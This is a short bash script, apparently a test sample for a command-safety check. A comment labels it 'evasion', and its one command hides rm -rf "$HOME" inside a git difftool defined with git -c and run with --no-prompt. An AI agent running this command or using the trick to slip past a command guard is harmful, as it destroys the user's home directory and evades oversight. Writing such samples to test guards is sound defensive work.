#!/bin/bash
# evasion: a difftool whose cmd is set with git -c; the "tool" removes the home directory
git -c difftool.side.cmd='rm -rf "$HOME" #' difftool --tool=side --no-prompt HEAD~1
